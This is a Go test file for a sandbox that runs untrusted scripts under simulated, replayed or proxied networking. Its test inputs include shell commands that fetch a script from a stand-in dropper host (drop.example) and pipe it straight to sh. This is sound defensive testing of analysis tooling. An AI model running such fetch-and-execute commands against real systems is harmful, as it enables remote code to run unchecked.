package sandbox_test

import (
	"cmp"
	"errors"
	"net"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/sallyport-dev/sallyport/sandbox"
	"github.com/sallyport-dev/sallyport/sandbox/network/gateway"
	replayed "github.com/sallyport-dev/sallyport/sandbox/network/recording"
	"github.com/sallyport-dev/sallyport/sandbox/protocol"
)

func TestReplayServesTheRecordedStage(t *testing.T) {
	dir := t.TempDir()
	if err := replayed.Write(dir, map[string][]byte{"http://drop.example/stage.sh": []byte("#!/bin/sh\necho the recorded stage ran\n")}); err != nil {
		t.Fatal(err)
	}
	recorded, err := replayed.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { recorded.Close() })
	r := newRunner(t, func(c *sandbox.Config) { c.Recording = recorded })
	req := request
	req.Profile.Network = protocol.Replay
	o, err := r.Run(t.Context(), buildSpec(t, shell("wget -q -O - http://drop.example/stage.sh | sh; wget -q -O /tmp/b http://drop.example/other.sh")), req, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer o.Close()
	run := o.Report.Run
	if run.NetworkMode != protocol.Replay || !slices.Equal(run.Coverage.UnmetDownloads, []string{"http://drop.example/other.sh"}) {
		t.Errorf("run %+v", run)
	}
	seen := o.Passes[0].Observation
	if !strings.Contains(seen.Run.Stdout, "the recorded stage ran") || len(seen.Network.HTTP) != 2 || seen.Network.HTTP[0].Source != "recording" {
		t.Errorf("printed %q, requests %+v", seen.Run.Stdout, seen.Network.HTTP)
	}
}

// A proxy that nobody is behind: what was to be fetched is made up.
func TestGatewayIsForRunsThatAskForIt(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var called atomic.Int64
	var calls sync.WaitGroup
	calls.Go(func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			called.Add(1)
			conn.Close()
		}
	})
	t.Cleanup(func() { ln.Close(); calls.Wait() })
	way, err := gateway.New(gateway.Config{Proxy: "http://" + ln.Addr().String(), Resolver: "192.0.2.53:53"})
	if err != nil {
		t.Fatal(err)
	}
	r := newRunner(t, func(c *sandbox.Config) { c.Gateway = way })
	img := buildSpec(t, shell("wget -q -O /tmp/a http://drop.example/a.sh; wget -q -O /tmp/b http://10.0.0.1/b.sh"))
	for _, network := range []string{"", protocol.Gateway} {
		req := request
		req.Profile.Network = network
		o, err := r.Run(t.Context(), img, req, nil)
		if err != nil {
			t.Fatal(err)
		}
		run := o.Report.Run
		if run.NetworkMode != cmp.Or(network, protocol.Simulated) || len(run.Coverage.UnmetDownloads) != 2 || called.Load() > 0 != (network == protocol.Gateway) {
			t.Errorf("%q: run %+v, the proxy was called %d times", network, run, called.Load())
		}
		if err := o.Close(); err != nil {
			t.Error(err)
		}
	}
}

func TestNetworksThatAreNotOfferedAreRefused(t *testing.T) {
	r := newRunner(t, nil)
	for _, network := range []string{protocol.Replay, protocol.Gateway, "host"} {
		req := request
		req.Profile.Network = network
		o, err := r.Run(t.Context(), buildSpec(t, shell("true")), req, nil)
		if err == nil {
			err = errors.Join(errors.New("it ran"), o.Close())
		}
		if !strings.Contains(err.Error(), "only simulated") {
			t.Errorf("%s: %v", network, err)
		}
	}
}
